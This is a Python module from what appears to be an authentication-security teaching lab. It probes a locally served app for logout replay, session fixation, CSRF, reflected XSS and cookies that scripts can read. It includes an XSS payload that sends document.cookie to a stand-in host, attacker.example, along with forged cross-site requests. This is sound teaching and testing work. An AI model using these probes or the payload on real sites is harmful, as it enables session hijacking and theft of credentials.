"""Attacks that need a running server: log in, replay, plant, forge a cross-site request.

A ``Target`` is a server that answers the course's routes (POST /login with JSON,
GET /profile, POST /settings, POST /logout) and carries its credential one of three
ways: ``"session"`` (an ID cookie), ``"jwt-header"`` (Authorization: Bearer) or
``"jwt-cookie"`` (the JWT in a cookie). Every probe returns a ``Finding``: did the
attack get in, and what the server answered.
"""

from __future__ import annotations

import dataclasses
import html
import secrets
import urllib.parse
from typing import Any

import requests

from authlab.attacks.session_attacks import CookieFlags, probe_cookie_flags
from authlab.client import log_in
from authlab.errors import AuthlabError
from authlab.server import serve
from authlab.users import DEMO_USERS

KINDS = ("session", "jwt-header", "jwt-cookie")
TIMEOUT = 10
ATTACKER_ORIGIN = "https://attacker.example"
XSS_PAYLOAD = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"


class TargetError(AuthlabError):
    """The server could not be attacked at all: unreachable, or the login failed."""


@dataclasses.dataclass
class Finding:
    """The outcome of one probe: ``succeeded`` means the attack got in."""

    succeeded: bool
    detail: str

    def __bool__(self) -> bool:
        return self.succeeded


@dataclasses.dataclass
class Login:
    """A logged-in client and the credential it holds (token and/or cookie)."""

    client: requests.Session
    response: requests.Response
    token: str | None
    cookie_name: str | None

    @property
    def cookies(self) -> list[CookieFlags]:
        return probe_cookie_flags(self.response)


@dataclasses.dataclass
class Target:
    """A server to attack. ``signing_key`` (the server's own key) lets the battery mint the
    "token captured long ago" of the expiry attack; ``public_key`` feeds algorithm confusion."""

    url: str
    kind: str
    username: str = "alice"
    password: str | None = None
    name: str | None = None
    public_key: Any = None
    signing_key: Any = None
    skip: dict[str, str] = dataclasses.field(default_factory=dict)
    token_cookie: str | None = dataclasses.field(default=None, init=False)
    _observed: Login | None = dataclasses.field(default=None, init=False, repr=False)

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"kind must be one of {', '.join(KINDS)}, not {self.kind!r}")
        self.url = self.url.rstrip("/")
        self.name = self.name or self.url
        if self.password is None:
            self.password = DEMO_USERS.get(self.username, "")

    def login(self) -> Login:
        """A fresh client logged in as ``username``; TargetError says why when it cannot be."""
        client = requests.Session()
        try:
            response = log_in(client, self.url, self.username, self.password)
        except requests.RequestException as error:
            raise TargetError(f"cannot reach {self.url}: {_reason(error)}. Is the server running?") from None
        if not response.ok:
            raise TargetError(f"login as {self.username!r} at {self.url}/login failed with {response.status_code} "
                              f"{_error_text(response)}: pass the right username and password")
        token = _json(response).get("token") if self.kind == "jwt-header" else None
        cookie = credential_cookie(response)
        if self.kind == "jwt-cookie" and cookie is not None:
            token, self.token_cookie = cookie.value, cookie.name
        if self.kind == "jwt-header" and not token:
            raise TargetError(f"{self.url}/login answered no 'token' field: is it a jwt-header server?")
        if self.kind != "jwt-header" and cookie is None:
            raise TargetError(f"{self.url}/login set no cookie: is it a {self.kind} server?")
        return Login(client, response, token, cookie.name if cookie else None)

    def observed(self) -> Login:
        """One login kept for the attacks that only read a credential (saves a password hash per attack)."""
        if self._observed is None:
            self._observed = self.login()
        return self._observed

    def profile(self, *, token: str | None = None, cookies: dict | None = None, headers: dict | None = None):
        """GET /profile from a client holding nothing but what is passed (a forged token goes
        where this kind of server expects it: the header or the credential cookie)."""
        headers, cookies = dict(headers or {}), dict(cookies or {})
        if token is not None:
            if self.kind == "jwt-header":
                headers["Authorization"] = f"Bearer {token}"
            else:
                cookies[self.token_cookie or self.observed().cookie_name] = token
        return requests.get(f"{self.url}/profile", headers=headers, cookies=cookies, timeout=TIMEOUT)


def serve_target(app: Any, kind: str, *, name: str | None = None, **options: Any) -> Target:
    """Serve ``app`` on 127.0.0.1 (``authlab.serve``: a server of the same ``name`` is replaced) and return it
    as a Target of ``kind``; ``options`` go to Target (``username``, ``password``, ...)."""
    return Target(serve(app, name=name).url, kind, **options)


def _reason(error: Exception) -> str:
    text = str(error)
    return "connection refused" if "refused" in text.lower() else text.splitlines()[0][:120]


def _json(response: requests.Response) -> dict:
    try:
        body = response.json()
    except ValueError:
        return {}
    return body if isinstance(body, dict) else {}


def _error_text(response: requests.Response) -> str:
    """The server's JSON ``error`` (the course's convention), else the status phrase ("NOT FOUND")."""
    return str(_json(response).get("error") or response.reason)


def credential_cookie(response) -> CookieFlags | None:
    """The cookie a login sets that carries the login (anything but a CSRF cookie)."""
    cookies = [c for c in probe_cookie_flags(response) if "csrf" not in c.name.lower() and "xsrf" not in c.name.lower()]
    return cookies[0] if cookies else None


def accepted(response: requests.Response) -> bool:
    """Did the server treat the request as logged in?"""
    return 200 <= response.status_code < 300


def verdict(response: requests.Response, what: str) -> Finding:
    """A Finding from a /profile answer: in (2xx) or refused, with the server's words."""
    if accepted(response):
        user = _json(response).get("user")
        return Finding(True, f"{what}: accepted" + (f" as {user!r}" if user else ""))
    return Finding(False, f"{what}: refused ({response.status_code} {_error_text(response)})")


# --- probes -----------------------------------------------------------------------------


def replay_after_logout(target: Target) -> Finding:
    """Log in, copy the credential, log out, replay the copy. CWE-613 (insufficient session expiration).

    A logout that only tells the browser to forget the cookie or token leaves the copy an
    attacker took (or a shared computer kept) working until it expires, if ever.
    """
    session = target.login()
    copy_headers = {"Authorization": session.client.headers["Authorization"]} if target.kind == "jwt-header" else {}
    copy_cookies = session.client.cookies.get_dict()
    logout = session.client.post(f"{target.url}/logout", timeout=TIMEOUT)
    if not accepted(logout):
        return Finding(False, f"logout itself failed ({logout.status_code} {_error_text(logout)})")
    return verdict(target.profile(cookies=copy_cookies, headers=copy_headers), "the credential copied before logout")


def fixation_probe(target: Target) -> Finding:
    """Plant a session ID in the victim's browser before login; is it still the session after? CWE-384.

    The planted ID is one the server handed to the attacker (GET /) if it hands any out,
    else one the attacker made up.
    """
    cookie_name = target.observed().cookie_name
    landing = requests.get(f"{target.url}/", timeout=TIMEOUT)
    issued = {c.name: c.value for c in probe_cookie_flags(landing)}
    planted = issued.get(cookie_name) or secrets.token_hex(16)
    victim = requests.Session()
    victim.cookies.set(cookie_name, planted, domain=urllib.parse.urlsplit(target.url).hostname, path="/")
    response = log_in(victim, target.url, target.username, target.password)
    if not response.ok:
        return Finding(False, f"the victim's login failed ({response.status_code} {_error_text(response)})")
    origin = "the server issued it before login" if cookie_name in issued else "attacker-chosen"
    result = verdict(target.profile(cookies={cookie_name: planted}), f"the planted ID ({origin})")
    if result.succeeded:
        return result
    kept = victim.cookies.get(cookie_name) == planted
    return Finding(False, result.detail + ("; the ID was kept but never tied to the login" if kept
                                           else "; a new ID was issued at login"))


def csrf_probe(target: Target) -> Finding:
    """Send what a cross-site form would: the victim's cookies, no CSRF header, a foreign Origin. CWE-352.

    Two bodies a page on another site can send without a CORS preflight: a form
    (``application/x-www-form-urlencoded``) and JSON disguised as ``text/plain``. Only a
    browser enforces SameSite, so this probe tests the server's own defence.
    """
    cookies = target.observed().client.cookies.get_dict()
    forged = {"Origin": ATTACKER_ORIGIN, "Referer": f"{ATTACKER_ORIGIN}/cat-pictures"}
    email = "attacker@attacker.example"
    attempts = {
        "form POST": {"data": {"email": email}},
        "text/plain POST": {"data": f'{{"email": "{email}"}}', "headers": {**forged, "Content-Type": "text/plain"}},
    }
    refusals = []
    for name, extra in attempts.items():
        response = requests.post(f"{target.url}/settings", cookies=cookies, headers=extra.pop("headers", forged),
                                 timeout=TIMEOUT, **extra)
        if accepted(response):
            return Finding(True, f"cross-site {name} to /settings: accepted ({response.status_code})")
        refusals.append(f"{name}: {response.status_code} {_error_text(response)}")
    return Finding(False, "refused: " + "; ".join(refusals))


def xss_probe(url: str, paths: tuple[str, ...] = ("/search?q=", "/?q=")) -> Finding:
    """Does the server echo a ``<script>`` from the URL into an HTML page, unescaped? CWE-79."""
    for path in paths:
        response = requests.get(f"{url.rstrip('/')}{path}{requests.utils.quote(XSS_PAYLOAD)}", timeout=TIMEOUT)
        if "html" in response.headers.get("Content-Type", "") and XSS_PAYLOAD in response.text:
            return Finding(True, f"GET {path}… reflects the script unescaped: a browser would run it")
        if html.escape("<script>") in response.text:  # escapers differ on quotes, never on < and >
            return Finding(False, f"GET {path}… reflects the input, escaped: a browser shows it as text")
    return Finding(False, "no reflection of the script found")


def token_theft_probe(target: Target) -> Finding:
    """Could a script injected into the page read the login credential? CWE-1004, with CWE-79.

    A cookie without HttpOnly is in ``document.cookie`` for any script on the page; an
    injected one sends it away. A CSRF cookie is readable on purpose: it is no login.
    """
    session = target.observed()
    readable = [c.name for c in session.cookies if c.name == session.cookie_name and c.readable_by_script]
    reflection = xss_probe(target.url)
    if readable:
        return Finding(True, f"cookie {readable[0]!r} has no HttpOnly: document.cookie shows it"
                             + (f"; and {reflection.detail}" if reflection else ""))
    return Finding(False, f"cookie {session.cookie_name!r} is HttpOnly: no script can read it; {reflection.detail}")

